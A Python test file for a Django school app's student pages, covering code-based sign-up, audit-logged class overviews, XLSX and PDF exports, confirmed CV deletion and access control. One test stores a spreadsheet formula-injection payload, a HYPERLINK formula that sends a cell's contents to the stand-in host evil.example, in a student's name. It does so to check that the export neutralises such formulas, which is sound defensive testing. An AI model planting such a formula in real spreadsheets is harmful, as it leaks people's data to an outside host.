"""Pages of the students app through the test client: sign-up, dashboard, exports, PDFs, audit of reads."""

import io
import zipfile

from django.urls import reverse
from django_scopes import scopes_disabled
from openpyxl import load_workbook

from anschluss.core.models import AuditEntry
from anschluss.students.models import CvEntry, Student


def test_sign_up_with_a_code_creates_the_account_and_signs_in(world, client, school):
    url = reverse("students:join", kwargs={"municipality": "dortmund"})
    response = client.post(url, {"code": "abcd-2345"})
    assert response.status_code == 200 and b"otto.f" in response.content
    response = client.post(
        url,
        {
            "code": "ABCD2345",
            "username": "otto.f",
            "password1": "sonnenblume-42",
            "password2": "sonnenblume-42",
        },
    )
    assert response.status_code == 302
    with scopes_disabled():
        assert Student.objects.get(pk=school.stranger.pk).user.username == "otto.f"
    assert client.get(reverse("students:milestones", kwargs={"municipality": "dortmund"})).status_code == 200


def test_a_wrong_code_gets_a_clear_error(world, client, school):
    response = client.post(
        reverse("students:join", kwargs={"municipality": "dortmund"}), {"code": "ZZZZ-ZZZZ"}
    )
    assert response.status_code == 200
    assert response.context["form"].errors["code"]


def test_class_overview_shows_what_is_missing_and_logs_the_reads(world, client_for, school):
    client = client_for("teacher")
    url = reverse("students:class_detail", kwargs={"municipality": "dortmund", "pk": school.own_class.pk})
    response = client.get(url)
    assert response.status_code == 200
    row = response.context["rows"][0]
    statuses = {entry.key: status for entry, status in row.milestones}
    assert statuses["SBO_5_1"] == "recorded" and statuses["SBO_4_1"] == "missing"
    with scopes_disabled():
        assert AuditEntry.objects.filter(
            kind="read", target_id=str(school.student.pk), reason="class overview"
        ).exists()
    # A teacher of another class sees neither that class nor its students.
    other = reverse("students:class_detail", kwargs={"municipality": "dortmund", "pk": school.other_class.pk})
    assert client.get(other).status_code == 403
    stranger = reverse(
        "students:student_detail", kwargs={"municipality": "dortmund", "pk": school.stranger.pk}
    )
    assert client.get(stranger).status_code == 403


def test_class_overview_as_xlsx(world, client_for, school):
    url = reverse("students:class_xlsx", kwargs={"municipality": "dortmund", "pk": school.own_class.pk})
    response = client_for("school_coordinator").get(url)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][:2] == ("Schülerin", "Mia")
    assert len(rows) == 2


HYPERLINK = '=HYPERLINK("https://evil.example/?d="&C2,"Klick")'


def test_formulas_in_names_come_out_of_the_xlsx_as_text(world, client_for, school):
    """Names made before the import refused such values (or typed in the admin) still reach Excel as text."""
    with scopes_disabled():
        Student.objects.create(
            municipality=world.main,
            school=school.own_class.school,
            school_class=school.own_class,
            grade=9,
            first_name="@SUM(1+1)",
            last_name=HYPERLINK,
        )
    url = reverse("students:class_xlsx", kwargs={"municipality": "dortmund", "pk": school.own_class.pk})
    response = client_for("teacher").get(url)
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "HYPERLINK(" in xml
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == HYPERLINK)
    last, first = row[0], row[1]
    assert (last.data_type, first.data_type) == ("s", "s")
    assert first.value == "@SUM(1+1)"
    assert last.quotePrefix and first.quotePrefix
    # Ordinary names are left alone.
    mia = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "Schülerin")
    assert mia[0].data_type == "s" and not mia[0].quotePrefix


def test_a_cv_line_is_deleted_only_after_the_question(world, client_for, school):
    client = client_for("student")
    url = reverse("students:cv_entry_delete", kwargs={"municipality": "dortmund", "pk": school.entry.pk})
    step = reverse("students:cv_step", kwargs={"municipality": "dortmund", "step": "school"})
    # The list links to the question; it has no button that deletes at once.
    content = client.get(step).content.decode()
    assert f'href="{url}"' in content and f'action="{url}"' not in content
    response = client.get(url, HTTP_ACCEPT_LANGUAGE="de")
    assert response.status_code == 200
    assert (
        "Diese Zeile löschen?" in response.content.decode()
        and "Hauptschule Kley" in response.content.decode()
    )
    # A POST without the answer (an old form, a stray request) asks again and deletes nothing.
    assert client.post(url).status_code == 200
    assert client.post(url, {"confirm": "no"}).status_code == 200
    with scopes_disabled():
        assert CvEntry.objects.filter(pk=school.entry.pk).exists()
    response = client.post(url, {"confirm": "yes"})
    assert response.status_code == 302 and response["Location"] == step
    with scopes_disabled():
        assert not CvEntry.objects.filter(pk=school.entry.pk).exists()
        assert AuditEntry.objects.filter(
            action="students.cventry.delete", target_id=str(school.entry.pk)
        ).exists()


def test_cv_pdf_and_code_sheet_are_pdfs(world, client_for, school):
    student = client_for("student")
    response = student.get(reverse("students:cv_pdf", kwargs={"municipality": "dortmund"}))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    codes = reverse("students:class_codes", kwargs={"municipality": "dortmund", "pk": school.other_class.pk})
    response = client_for("school_coordinator").post(codes)
    assert response.status_code == 200 and response.content.startswith(b"%PDF")


def test_documents_are_served_only_through_the_view(world, client_for, school, settings):
    url = reverse("students:document_download", kwargs={"municipality": "dortmund", "pk": school.document.pk})
    response = client_for("guardian").get(url)
    assert response.status_code == 200 and response["Cache-Control"] == "no-store"
    assert b"".join(response.streaming_content).startswith(b"%PDF")
    assert str(settings.MEDIA_ROOT) not in str(settings.STATIC_ROOT)
    assert client_for("company_staff").get(url).status_code == 403


def test_quiz_saves_answers_as_you_go_and_without_javascript(world, client_for, school):
    client = client_for("student")
    save = reverse("students:quiz_save", kwargs={"municipality": "dortmund"})
    assert client.post(save, {"item": "R01", "value": "4"}).json()["answered"] == 1
    assert client.post(save, {"item": "R01", "value": "9"}).status_code == 400
    page = reverse("students:quiz_page", kwargs={"municipality": "dortmund", "page": 1})
    response = client.post(page, {"R01": "5", "I01": "2", "action": "pause"})
    assert response.status_code == 302
    with scopes_disabled():
        assert dict(school.student.interest_answers.values_list("item", "value")) == {"R01": 5, "I01": 2}


def test_a_student_of_another_municipality_is_not_found(world, client_for, school):
    url = reverse(
        "students:student_detail", kwargs={"municipality": "beispielstadt", "pk": school.student.pk}
    )
    assert client_for("other_municipality_coordinator").get(url).status_code == 404
